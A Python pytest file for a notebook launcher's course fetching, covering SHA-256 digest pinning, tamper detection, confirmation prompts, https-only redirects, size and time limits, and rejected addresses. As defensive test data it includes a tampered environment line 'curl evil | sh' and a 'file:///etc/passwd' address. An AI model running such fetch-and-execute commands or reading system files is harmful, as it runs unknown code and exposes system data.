"""Courses from real https addresses: digests, questions, redirections, limits."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import time
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from notebook_launcher.core import events
from notebook_launcher.core.errors import (
    AnswerMissing,
    DigestDiffers,
    FetchFailed,
    ProfileError,
    UsageError,
)
from notebook_launcher.core.https_fetch import fetch
from notebook_launcher.planning import course_source
from notebook_launcher.planning.course_commands import forget_course, take_course, update_course
from notebook_launcher.profiles.courses import saved_course, saved_courses
from tests.doubles import FakePrompts, RecordingView
from tests.unit.planning.conftest import LaunchNotebook
from tests.unit.planning.courses.course_files import COMMON, COURSE, FILES, digest_of, plan_on, take
from tests.unit.planning.courses.web_server import Server

pytestmark = pytest.mark.timeout(60)


def test_the_digest_is_what_sha256sum_says(course: Path, launch_notebook: LaunchNotebook) -> None:
    names = ["course.toml", "common.toml", "one.ipynb", "week2/two.ipynb"]
    listed = subprocess.run(["sha256sum", *names], cwd=course.parent, capture_output=True, check=True).stdout
    told = launch_notebook("course", "digest", str(course))
    assert told.stdout == hashlib.sha256(listed).hexdigest() + "\n"
    course.write_text('name = "alone"\n')
    assert digest_of(course) == hashlib.sha256(course.read_bytes()).hexdigest()


def test_an_address_with_its_digest_is_taken_unasked(web: Server, course: Path) -> None:
    url = web.put(FILES, "2026/")
    name, _, prompts = take(f"{url}#sha256={digest_of(course)}")
    assert prompts.asked == []
    kept = saved_course(name)
    assert (kept.source, kept.digest) == (url, digest_of(course))
    assert kept.files().notebooks["week2/two.ipynb"] == b'{"two": 2}\n'
    assert plan_on().request.flags["reservation"] == "week"
    web.asked.clear()
    take(f"{url}#sha256={digest_of(course)}")
    assert web.asked == [], "what is kept already is not fetched again"


@pytest.mark.parametrize("tampered", list(FILES))
def test_a_file_that_was_tampered_with_is_not_taken(web: Server, course: Path, tampered: str) -> None:
    pin = digest_of(course)
    url = web.put({**FILES, tampered: FILES[tampered] + "\n"})
    with pytest.raises(DigestDiffers, match="not the one whose digest was given"):
        take(f"{url}#sha256={pin}")
    assert saved_courses() == []


def test_the_digest_of_the_file_alone_is_told_apart(web: Server) -> None:
    url = web.put(FILES)
    with pytest.raises(DigestDiffers) as caught:
        take(f"{url}#sha256={hashlib.sha256(COURSE.encode()).hexdigest()}")
    assert "alone" in caught.value.why and "course digest" in caught.value.hint


def test_plain_http_wants_a_digest(plain_web: Server, course: Path) -> None:
    url = plain_web.put(FILES)
    with pytest.raises(UsageError, match="only fetches addresses that begin with https") as caught:
        take(url, True)
    assert "#sha256=" in caught.value.hint
    assert plain_web.asked == []
    assert take(f"{url}#sha256={digest_of(course)}")[0] == "gpu2026"


def test_a_course_over_plain_http_is_updated_by_its_teachers_new_line(plain_web: Server, course: Path) -> None:
    url = plain_web.put(FILES)
    take(f"{url}#sha256={digest_of(course)}")
    with pytest.raises(UsageError, match="only fetches addresses that begin with https") as caught:
        update_course("gpu2026", RecordingView(), FakePrompts())
    assert "launch-notebook --course" in caught.value.hint and "from your teacher" in caught.value.hint


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("description = 1", "your teacher"),
        ("contact = 'Ada <ada@uni.example>'\nname = 1", "tell Ada <ada@uni.example>: name"),
        ("name = oops", "your teacher"),
        ("name = 'x'\nbase = '../y'", "your teacher"),
    ],
)
def test_a_mistake_in_a_course_from_an_address_is_its_teachers_to_mend(web: Server, text: str, told: str) -> None:
    url = web.put({"course.toml": text})
    with pytest.raises(ProfileError) as caught:
        take(url, True)
    assert caught.value.hint.startswith("tell ") and told in caught.value.hint


def test_without_a_digest_the_user_sees_what_runs_and_is_asked(web: Server, course: Path) -> None:
    url = web.put(FILES)
    for answer in (None, False):
        with pytest.raises(AnswerMissing) as caught:
            take(url, answer)
        assert f"{url}#sha256={digest_of(course)}" in caught.value.hint
        assert saved_courses() == []
    name, view, prompts = take(url, True)
    assert len(prompts.asked) == 1
    for part in ("uni", "edu26", "course.sif", "runs  conda activate tf-gpu; export X='$HOME'", "week2/two.ipynb",
                 "--gpus=2", "monday", digest_of(course)):  # fmt: skip
        assert part in view.notes, part
    assert {type(event) for event in take(url)[1].events} == {events.Querying}, "the same again is taken silently"
    # the address that was offered works
    forget_course(name, view)
    offered = re.search(r"--course '?(\S+?)'?$", caught.value.hint)
    assert offered and take(offered[1])[0] == name


def test_a_change_is_shown_and_asked_about(web: Server, course: Path) -> None:
    url = web.put(FILES)
    take(url, True)
    before = saved_course("gpu2026")
    web.put({"common.toml": COMMON.replace("conda activate tf-gpu", "curl evil | sh")})
    for answer in (None, False):
        with pytest.raises(DigestDiffers, match="has changed since you saved it") as caught:
            take(url, answer)
        assert "--course gpu2026" in caught.value.hint
        assert saved_course("gpu2026") == before
    assert take("gpu2026")[0] == "gpu2026", "what is kept goes on working"
    _, view, _ = take(url, True)
    assert "- environment tf-gpu: runs  conda activate tf-gpu" in view.notes
    assert "+ environment tf-gpu: runs  curl evil | sh" in view.notes
    assert saved_course("gpu2026").digest != before.digest


def test_a_course_is_updated_from_where_it_came(web: Server) -> None:
    url = web.put(FILES)
    take(url, True)
    view = RecordingView()
    update_course("gpu2026", view, FakePrompts())
    assert "is what it was on" in view.notes
    web.put({"one.ipynb": "{}"})
    update_course("gpu2026", view, FakePrompts(confirms=[True]))
    assert "one.ipynb is another version" in view.notes
    assert saved_course("gpu2026").files().notebooks["one.ipynb"] == b"{}"


def test_without_the_network_the_kept_course_is_used(web: Server) -> None:
    url = web.put(FILES)
    take(url, True)
    web.close()
    name, view, _ = take(url)
    assert name == "gpu2026"
    assert "is used as it was saved on" in view.notes
    forget_course(name, view)
    with pytest.raises(FetchFailed):
        take(url)


def test_a_server_that_is_not_trusted_gives_nothing(web: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    url = web.put(FILES)
    monkeypatch.delenv("SSL_CERT_FILE")
    with pytest.raises(FetchFailed, match="could not be fetched") as caught:
        take(url, True)
    assert "SSL_CERT_FILE" in caught.value.hint
    assert web.asked == []


def redirect(to: str, code: int = 302) -> Callable[[BaseHTTPRequestHandler], None]:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(code)
        handler.send_header("Location", to)
        handler.end_headers()

    return answer


def test_redirections_lead_to_https_only(web: Server, plain_web: Server, course: Path) -> None:
    url = web.put(FILES, "long/way/")
    web.odd["short"] = redirect(url)
    assert take(f"{web.url}short", True)[0] == "gpu2026"  # what lies beside it is found where it leads
    web.odd["moved"] = redirect(f"{web.url}one", 308)
    web.files["one"] = b"1"
    assert fetch(f"{web.url}moved", 100).content == b"1"
    web.odd["down"] = redirect(plain_web.put(FILES))
    web.odd["file"] = redirect(f"file://{course}")
    web.odd["round"] = redirect(f"{web.url}round")
    for path in ("down", "file", "round"):
        with pytest.raises(FetchFailed):
            take(f"{web.url}{path}#sha256={digest_of(course)}"[: None if path != "round" else -72], True)
    assert plain_web.asked == []


def drip(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()
    for _ in range(100):
        handler.wfile.write(b"#")
        handler.wfile.flush()
        time.sleep(0.05)


def cut(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    handler.wfile.write(b'name = "half"\n')


def test_what_comes_is_bounded_in_size_and_in_time(web: Server) -> None:
    web.files["large"] = b"#" * 100_001
    with pytest.raises(FetchFailed, match="larger than"):
        fetch(f"{web.url}large", 100_000)
    web.odd["drip"] = drip
    began = time.monotonic()
    with pytest.raises(FetchFailed, match="did not arrive within"):
        fetch(f"{web.url}drip", 1000, within=0.5)
    assert time.monotonic() - began < 10
    web.odd["cut"] = cut
    with pytest.raises(FetchFailed):
        fetch(f"{web.url}cut", 10_000)


@pytest.mark.real_time
def test_a_course_with_all_its_files_is_bounded_in_time(web: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(course_source, "TOTAL_TIMEOUT", 2.5)

    def slow(handler: BaseHTTPRequestHandler) -> None:
        time.sleep(0.3)
        handler.send_response(200)
        handler.end_headers()

    names = [f"{number}.ipynb" for number in range(60)]
    web.odd |= dict.fromkeys(names, slow)
    url = web.put({"course.toml": f'name = "x"\nnotebooks = {json.dumps(names)}\n'})
    began, view = time.monotonic(), RecordingView()
    with pytest.raises(FetchFailed) as caught:
        take_course(url, view, FakePrompts(confirms=[True]))
    assert caught.value.what == f"{url}:2: {url} with all its files did not arrive within 2 s."
    assert time.monotonic() - began < 15  # all of them would take eighteen
    assert "fetching 1.ipynb (2 of 60) from 127.0.0.1" in [
        e.text for e in view.events if isinstance(e, events.Querying)
    ]


def test_a_page_about_a_file_is_told_apart(web: Server) -> None:
    web.files["page"] = b"<!DOCTYPE html><html></html>"
    with pytest.raises(ProfileError, match="is a web page"):
        take(f"{web.url}page", True)
    with pytest.raises(FetchFailed, match="could not be fetched") as caught:
        take(f"{web.url}nothing", True)
    assert "404" in caught.value.why


def test_a_mistake_at_an_address_is_told_with_its_line(web: Server) -> None:
    url = web.put({**FILES, "common.toml": COMMON + "gpu = 7\n"})
    with pytest.raises(ProfileError, match=re.escape(f"{web.url}common.toml:14: ")):
        take(url, True)
    url = web.put({"course.toml": 'name = "x"\nnotebooks = ["gone.ipynb"]\n'})
    with pytest.raises(FetchFailed) as caught:
        take(url, True)
    assert caught.value.what == f"{url}:2: {web.url}gone.ipynb could not be fetched."


@pytest.mark.parametrize(
    "word", ["ftp://a.example/c.toml", "file:///etc/passwd", "https://alice:secret@a.example/c.toml", "https:///c.toml",
             "https://a.example/c.toml#sha256=12", "https://a.example/c.toml#md5=1", "https://a.example/ c.toml"]
)  # fmt: skip
def test_an_address_that_is_none(word: str) -> None:
    with pytest.raises(UsageError) as caught:
        take(word, True)
    assert caught.value.hint
